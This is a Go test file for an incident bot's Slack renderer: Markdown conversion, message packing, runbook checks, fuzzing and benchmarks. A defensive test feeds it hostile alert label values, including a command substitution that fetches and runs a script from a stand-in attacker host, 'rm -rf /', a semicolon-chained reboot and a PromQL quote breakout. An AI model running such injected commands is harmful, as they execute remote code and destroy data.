package slack

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/incidentbot/incidentbot/bot"
	"github.com/incidentbot/incidentbot/runbooks"
	slackgo "github.com/slack-go/slack"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
)

func TestRenderMarkdown(t *testing.T) {
	tests := []struct {
		name string
		md   string
		vars map[string]string
		want string // the blocks, one per line
	}{
		{name: "fenced code keeps its lines, language line dropped",
			md:   "Run:\n\n```sh\nkubectl get pods\nkubectl top pods\n```",
			want: "Run:\n```\nkubectl get pods\nkubectl top pods\n```"},
		{name: "indented code is a code block too",
			md:   "Run:\n\n    a\n      b\n",
			want: "Run:\n```\na\n  b\n```"},
		{name: "a comment line in code is kept on its own line",
			md:   "```sh\n# JVM: twice\njcmd 1 GC.class_histogram\n```",
			want: "```\n# JVM: twice\njcmd 1 GC.class_histogram\n```"},
		{name: "bold and italics in Slack's syntax",
			md:   "usually **error rate** and *latency*, __b__ _i_ ***both*** ~~gone~~",
			want: "usually *error rate* and _latency_, *b* _i_ _*both*_ ~gone~"},
		{name: "wrapped paragraph is one line, hard break kept",
			md:   "one\ntwo  \nthree",
			want: "one two\nthree"},
		{name: "headings are bold lines",
			md:   "## What **now**\n\ntext",
			want: "*What now*\ntext"},
		{name: "links",
			md:   "see [the docs](https://x.example/a?b=1&c=2) and <https://y.example> and https://z.example/p",
			want: "see <https://x.example/a?b=1&amp;c=2|the docs> and <https://y.example|https://y.example> and <https://z.example/p|https://z.example/p>"},
		{name: "a link that is not http shows its text only",
			md:   "[click](javascript:alert(1)) [rel](/wiki/x)",
			want: "click rel"},
		{name: "nested lists are indented lines",
			md:   "- one\n  - one a\n    - deep\n- two\n\n1. first\n2. second",
			want: "• one\n    ◦ one a\n        ▪ deep\n• two\n1. first\n2. second"},
		{name: "code in a list item is fenced at the line start",
			md:   "- Alert on the trend:\n\n  ```yaml\n  - alert: X\n    expr: |\n      up\n  ```\n- next",
			want: "• Alert on the trend:\n```\n- alert: X\n  expr: |\n    up\n```\n• next"},
		{name: "text is escaped (mentions of people stay, as everywhere), Markdown escapes and entities resolved",
			md:   "a <!channel> & \\*b\\* &lt;c&gt; `<@U1> & x`",
			want: "a &lt;!channel&gt; &amp; *b* &lt;c&gt; `<@U1> &amp; x`"},
		{name: "html comment dropped, other html shown as text",
			md:   "<!-- editors only -->\n\nkeep <b>this</b>",
			want: "keep &lt;b&gt;this&lt;/b&gt;"},
		{name: "quote",
			md:   "> careful\n> really",
			want: "> careful really"},
		{name: "three backticks inside code cannot close Slack's block",
			md:   "~~~\n```\ninner\n```\n~~~",
			want: "```\n``\u200b`\ninner\n``\u200b`\n```"},
		{name: "table as aligned code",
			md:   "| a | bb |\n|---|---|\n| ccc | d |",
			want: "```\na   | bb\nccc | d\n```"},
		{name: "variables: code gets the value, prose gets it as code, unknown stay",
			md:   "In `$NS` see $NS and ${APP}; $NSX $POD\n\n```sh\nkubectl -n \"$NS\" get deploy/${APP} $POD\n```",
			vars: map[string]string{"NS": "payments", "APP": "gw"},
			want: "In `payments` see `payments` and `gw`; $NSX $POD\n```\nkubectl -n \"payments\" get deploy/gw $POD\n```"},
		{name: "variables in a link",
			md:   "[dash](https://g.example/d?ns=$NS)",
			vars: map[string]string{"NS": "payments"},
			want: "<https://g.example/d?ns=payments|dash>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := strings.Join(renderMarkdown(tt.md, tt.vars), "\n")
			if got != tt.want {
				t.Errorf("renderMarkdown(%q)\n got %q\nwant %q", tt.md, got, tt.want)
			}
		})
	}
}

func TestPackSections(t *testing.T) {
	code := fence + "\n" + strings.Repeat("line of a long command\n", 20) + fence
	long := strings.Repeat("word ", 40)
	tests := []struct {
		name  string
		parts []string
		limit int
	}{
		{name: "short parts share a section", parts: []string{"a", "b", "c"}, limit: 100},
		{name: "a long code block is closed and reopened", parts: []string{"intro", code, "after"}, limit: 100},
		{name: "a long line is cut between words", parts: []string{long}, limit: 50},
		{name: "a long line in code", parts: []string{fence + "\n" + strings.Repeat("x", 250) + "\n" + fence}, limit: 60},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := packSections(tt.parts, tt.limit)
			for _, s := range got {
				if len(s) > tt.limit {
					t.Errorf("section of %d bytes > %d: %q", len(s), tt.limit, s)
				}
				if strings.Count(s, fence)%2 != 0 {
					t.Errorf("section with an unclosed code block: %q", s)
				}
			}
			// Joined again without the fences added at the cuts, the text is whole.
			joined := strings.Join(got, "\n")
			want := strings.Join(tt.parts, "\n")
			if strip(joined) != strip(want) {
				t.Errorf("packSections lost text:\n got %q\nwant %q", joined, want)
			}
		})
	}
	if got := packSections([]string{"a", "b"}, 100); len(got) != 1 || got[0] != "a\nb" {
		t.Errorf("packSections(a, b) = %q, want one section", got)
	}
}

// strip removes fences and all whitespace, to compare text cut in
// different places.
func strip(s string) string {
	return strings.Join(strings.Fields(strings.ReplaceAll(s, fence, "")), "")
}

// memoryIncident is what a HighMemoryUsage alert from kube-prometheus
// opens.
func memoryIncident() *bot.Incident {
	return &bot.Incident{
		ID: 12, Title: "HighMemoryUsage payments/payment-gateway", Severity: bot.SEV2, Status: bot.StatusInvestigating,
		Receiver: "team-payments", GroupKey: `{}:{alertname="HighMemoryUsage"}`, CreatedAt: t0, DetectedAt: t0,
		GroupLabels: map[string]string{"alertname": "HighMemoryUsage"},
		Alerts: []bot.Alert{{Fingerprint: "f1", Status: bot.AlertFiring, StartsAt: t0,
			Labels: map[string]string{"alertname": "HighMemoryUsage", "severity": "warning", "namespace": "payments",
				"pod": "payment-gateway-7d9f8b6c5-x2x9k", "container": "payment-gateway", "service": "payment-gateway",
				"instance": "10.42.3.17:8080", "job": "payment-gateway"},
			Annotations: map[string]string{"summary": "payment-gateway uses 93% of its memory limit"}}},
	}
}

// TestBuiltinRunbookBlocksGolden pins the checklist of every built-in
// runbook as Slack gets it, for review in the diff.
func TestBuiltinRunbookBlocksGolden(t *testing.T) {
	v := view{loc: time.UTC}
	for _, rb := range runbooks.Builtin().All() {
		inc := memoryIncident()
		inc.StepsDone = []bot.StepDone{{Runbook: rb.Name, N: 1, By: "<@U100>", At: *at(9)}}
		text, blocks := v.runbook(inc, rb)
		golden(t, "runbook_builtin_"+rb.Name, text, blocks)
	}
}

// TestBuiltinRunbooksPasteAsWritten checks what the Markdown-to-Slack
// renderer promises for every built-in runbook: each code block of the
// source comes out fenced with the same lines, no language line or
// Markdown bold survives, and the message is within Slack's limits.
func TestBuiltinRunbooksPasteAsWritten(t *testing.T) {
	unescape := strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&")
	declared := &bot.Incident{ID: 3, Title: "Payments slow", Severity: bot.SEV2, Status: bot.StatusInvestigating, DetectedAt: t0}
	for _, rb := range runbooks.Builtin().All() {
		for _, inc := range []*bot.Incident{declared, memoryIncident()} {
			_, blocks := view{loc: time.UTC}.runbook(inc, rb)
			texts := sectionTexts(t, rb.Name, blocks)
			all := unescape.Replace(strings.Join(texts, "\n"))
			vars := map[string]string{}
			for _, v := range bot.FillVars(rb, inc) {
				if v.Filled {
					vars[v.Name] = v.Value
				}
			}
			if len(inc.Alerts) > 0 && len(vars) != len(rb.Vars) {
				t.Errorf("%s: filled %v from a HighMemoryUsage alert, want all of %v", rb.Name, vars, rb.Vars)
			}
			r := mrkdwnRenderer{vars: vars}
			sources := []string{introMarkdown(rb.Intro)}
			for _, s := range rb.Steps {
				sources = append(sources, s.Markdown)
			}
			blocksSeen := 0
			for _, src := range sources {
				for _, want := range codeBlocks(src) {
					blocksSeen++
					if want = r.expand(want, true); !strings.Contains(all, fence+"\n"+want+"\n"+fence) {
						t.Errorf("%s: code block not fenced with the same lines in the message:\n%s", rb.Name, want)
					}
				}
			}
			if blocksSeen < 5 {
				t.Errorf("%s: only %d code blocks in the source; the test reads the wrong thing", rb.Name, blocksSeen)
			}
			if strings.Contains(all, "**") {
				t.Errorf("%s: Markdown bold survives: %q", rb.Name, around(all, "**"))
			}
			for _, lang := range []string{"sh", "bash", "promql", "yaml", "console", "logql"} {
				if strings.Contains(all, fence+lang) {
					t.Errorf("%s: a language line survives: %q", rb.Name, around(all, fence+lang))
				}
			}
		}
	}
}

// sectionTexts returns the mrkdwn of the message's sections, checking
// Slack's limits on the way.
func sectionTexts(t *testing.T, name string, blocks []slackgo.Block) []string {
	t.Helper()
	if len(blocks) > maxBlocks {
		t.Errorf("%s: %d blocks, Slack takes %d", name, len(blocks), maxBlocks)
	}
	var out []string
	for _, b := range blocks {
		if s, ok := b.(*slackgo.SectionBlock); ok && s.Text != nil {
			if len(s.Text.Text) > maxSectionText {
				t.Errorf("%s: section of %d bytes, Slack takes %d", name, len(s.Text.Text), maxSectionText)
			}
			if strings.Count(s.Text.Text, fence)%2 != 0 {
				t.Errorf("%s: section with an unclosed code block: %q", name, s.Text.Text)
			}
			out = append(out, s.Text.Text)
		}
	}
	return out
}

// codeBlocks returns the lines of the code blocks in md, as the
// CommonMark parser reads them.
func codeBlocks(md string) []string {
	src := []byte(md)
	var out []string
	_ = ast.Walk(markdown.Parser().Parse(text.NewReader(src)), func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if entering && (n.Kind() == ast.KindFencedCodeBlock || n.Kind() == ast.KindCodeBlock) {
			var b strings.Builder
			for i := 0; i < n.Lines().Len(); i++ {
				seg := n.Lines().At(i)
				b.Write(seg.Value(src))
			}
			out = append(out, strings.TrimRight(b.String(), "\n"))
		}
		return ast.WalkContinue, nil
	})
	return out
}

func around(s, sub string) string {
	i := strings.Index(s, sub)
	return s[max(0, i-40):min(len(s), i+40)]
}

// FuzzRenderMarkdown feeds Markdown to the Slack renderer: it must not
// panic, and what it makes must fit Slack: sections within the limit, each
// with whole code blocks.
func FuzzRenderMarkdown(f *testing.F) {
	for _, rb := range runbooks.Builtin().All() {
		f.Add(rb.Intro)
		for _, s := range rb.Steps {
			f.Add(s.Markdown)
		}
	}
	for _, s := range []string{"", "```", "~~~\n```\n~~~", "> ```\n> x", "- ```\n  a", "$NS ${NS} $", "| a |\n|-|\n| ` |",
		"**a*", "<!-- x", "[a](<b c>)", strings.Repeat("x", 7000), "```\n" + strings.Repeat("y\n", 3000) + "```"} {
		f.Add(s)
	}
	vars := map[string]string{"NS": "payments", "APP": "gw"}
	f.Fuzz(func(t *testing.T, md string) {
		parts := renderMarkdown(md, vars)
		for _, s := range packSections(parts, maxSectionText) {
			if len(s) > maxSectionText {
				t.Fatalf("section of %d bytes from %q", len(s), md)
			}
			if strings.Count(s, fence)%2 != 0 {
				t.Fatalf("section with an unclosed code block from %q: %q", md, s)
			}
		}
	})
}

// BenchmarkRenderMemoryLeak measures rendering the built-in memory-leak
// runbook's checklist, the biggest message the bot posts and re-renders on
// every refresh of an incident that has it, beside the incident message
// (a baseline rendered on every refresh too) and the two parts of the
// checklist's cost: filling the variables and rendering the Markdown.
//
//	go test ./bot/slack -run '^$' -bench RenderMemoryLeak -benchtime 2000x -count 3
func BenchmarkRenderMemoryLeak(b *testing.B) {
	rb, ok := runbooks.Builtin().Get("memory-leak")
	if !ok {
		b.Fatal("no memory-leak runbook")
	}
	v, inc := view{loc: time.UTC}, memoryIncident()
	b.Run("incident-message-baseline", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			v.incident(inc)
		}
	})
	b.Run("checklist", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if _, blocks := v.runbook(inc, rb); len(blocks) == 0 {
				b.Fatal("no blocks")
			}
		}
	})
	b.Run("vars", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			bot.FillVars(rb, inc)
		}
	})
	b.Run("markdown", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			renderMarkdown(rb.Intro, nil)
			for _, s := range rb.Steps {
				renderMarkdown(s.Markdown, nil)
			}
		}
	})
}

// TestHostileLabelValues checks that a label value is data: whatever an
// alert carries, it cannot end a code block, add markup, mention
// @channel, or run a command when a step is pasted. A value that is not
// plain stays out of the steps ($NS as written), with a note.
func TestHostileLabelValues(t *testing.T) {
	rb := bot.Runbook{Name: "ns-check", Title: "NS check",
		Vars: []bot.RunbookVar{{Name: "NS", Template: "{{ .Labels.namespace }}"}},
		Steps: []bot.RunbookStep{{N: 1, Text: "Look at the namespace",
			Markdown: "Look at $NS and `$NS` in [the dashboard](https://g.example/d?ns=$NS).\n\n```sh\nkubectl -n \"$NS\" get pods\n```"}}}
	render := func(ns string, withLabel bool) (string, []string) {
		inc := memoryIncident()
		if withLabel {
			inc.Alerts[0].Labels["namespace"] = ns
		} else {
			delete(inc.Alerts[0].Labels, "namespace")
		}
		_, blocks := view{loc: time.UTC}.runbook(inc, rb)
		note := ""
		for _, b := range blocks {
			if c, ok := b.(*slackgo.ContextBlock); ok && c.BlockID == "runbook_vars" {
				note = c.ContextElements.Elements[0].(*slackgo.TextBlockObject).Text
			}
		}
		return note, sectionTexts(t, ns, blocks)
	}
	_, unfilled := render("", false)
	tests := []struct {
		name   string
		value  string
		filled bool
	}{
		{name: "plain namespace", value: "payments", filled: true},
		{name: "selector-like", value: "app=payment-gateway,tier=web", filled: true},
		{name: "backtick", value: "pay`ments"},
		{name: "code fence", value: "```\nrm -rf /\n```"},
		{name: "channel mention", value: "<!channel>"},
		{name: "user mention", value: "<@U0ADMIN>"},
		{name: "mrkdwn bold", value: "*urgent*"},
		{name: "newline", value: "payments\nrm -rf /"},
		{name: "command substitution", value: "$(curl evil.example | sh)"},
		{name: "quote breaking out of PromQL", value: `payments"} or vector(1) #`},
		{name: "semicolon", value: "payments; reboot"},
		{name: "space", value: "pay ments"},
		{name: "non-ASCII", value: "paymènts"},
		{name: "10k characters", value: strings.Repeat("a", 10000)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			note, got := render(tt.value, true)
			if !tt.filled {
				if strings.Join(got, "\n") != strings.Join(unfilled, "\n") {
					t.Errorf("value %q changed the steps:\n got %q\nwant %q", tt.value, got, unfilled)
				}
				if !strings.Contains(note, "`$NS` stays as written") || strings.Contains(note, tt.value) {
					t.Errorf("value %q: note %q, want it to say $NS stays, without the value", tt.value, note)
				}
				return
			}
			all := strings.Join(got, "\n")
			for _, want := range []string{"Look at `" + tt.value + "`", "`" + tt.value + "` in", "ns=" + tt.value + "|", `kubectl -n "` + tt.value + `" get pods`} {
				if !strings.Contains(all, want) {
					t.Errorf("value %q: %q not in the step:\n%s", tt.value, want, all)
				}
			}
			if !strings.Contains(note, "`$NS` = `"+tt.value+"`") {
				t.Errorf("value %q: note %q does not show it", tt.value, note)
			}
		})
	}
	if note, _ := render("", false); !strings.Contains(note, "`$NS` stays as written: no alert has label namespace.") {
		t.Errorf("missing label: note %q, want it to name the label", note)
	}
}

func TestCheckRunbook(t *testing.T) {
	for _, rb := range runbooks.Builtin().All() {
		if got := CheckRunbook(rb); len(got) > 0 {
			t.Errorf("built-in %s: %+v, want nothing", rb.Name, got)
		}
	}
	long := bot.Runbook{Name: "long", Title: "Long"}
	for i := 1; i <= 30; i++ {
		long.Steps = append(long.Steps, bot.RunbookStep{N: i, Text: "step", Markdown: "step"})
	}
	long.Steps[3].Markdown = "step\n\n```sh\necho " + strings.Repeat("x", 3200) + "\n```"
	got := CheckRunbook(long)
	want := []RunbookFinding{
		{Step: 23, Msg: "the checklist needs more than Slack's 50 blocks a message: steps 23 to 30 would not show (shorten or split the runbook)"},
		{Step: 4, Msg: "a line of 3205 bytes: Slack takes 3000 a section, so it would be cut in two"},
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("CheckRunbook:\n got %+v\nwant %+v", got, want)
	}
}

// TestRunbookNoteQuotesTheReason checks that the alert name and matcher
// the note quotes are data: no mention, no markup.
func TestRunbookNoteQuotesTheReason(t *testing.T) {
	inc := &incident{Incident: &bot.Incident{ID: 1}, State: State{MessageTS: "1.1"}}
	m := RunbookMessage{Name: "memory-leak", Reason: "alert *<!channel>*Memory`x` matches {alertname=~\".*Memory.*\"}"}
	got := runbookNote(inc, m, bot.Delivery{Kind: bot.DeliveryOpen})
	want := "📋 Runbook `memory-leak` is in the thread of the incident message (matched: `alert *&lt;!channel&gt;*Memory'x' matches {alertname=~\".*Memory.*\"}`). Mark its steps Done, Skip or Undo there; the checklist shows who and when."
	if got != want {
		t.Errorf("note\n got %q\nwant %q", got, want)
	}
}
